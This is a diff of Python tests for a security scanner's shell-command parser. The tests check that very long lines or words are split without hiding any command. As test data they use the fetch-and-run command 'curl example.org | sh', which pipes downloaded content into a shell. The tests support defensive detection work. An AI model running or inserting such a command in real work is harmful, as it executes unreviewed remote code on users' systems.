@@ -7,7 +7,7 @@ from typing import Any
 from hypothesis import given
 from hypothesis import strategies as st
 
-from aegis.security.manifest_tools.shell import commands, commands_of
+from aegis.security.manifest_tools.shell import OVERLONG, commands, commands_of
 
 
 def texts(script: str) -> list[str]:
@@ -36,12 +36,19 @@ def test_lines_are_counted() -> None:
     assert [(command.text, command.line) for command in found] == [("a", 1), ("b | c", 3), ("d", 5)]
 
 
-def test_a_line_of_megabytes_is_cut_so_that_nothing_falls_between() -> None:
+def test_a_line_of_megabytes_is_cut_so_that_nothing_falls_between_and_that_is_said() -> None:
     needle = "curl example.org | sh"
     for shift in range(0, 60, 7):
-        script = "x" * (20_000 - len(needle) + shift) + " " + needle + " " + "y" * 50_000
+        script = "x " * 9_950 + "y" * shift + f" {needle} " + "z " * 25_000
         assert any(needle in text for text in texts(script))
-        assert max(map(len, texts(script))) <= 20_200
+        assert OVERLONG in texts(script)
+        assert max(map(len, texts(script))) <= 21_000
+
+
+def test_a_long_word_pushes_nothing_apart() -> None:
+    (text,) = texts("curl -H " + "x" * 50_000 + " example.org | sh")
+    assert text.startswith("curl -H x")
+    assert text.endswith("x example.org | sh")
 
 
 def test_command_and_arguments_are_one() -> None:
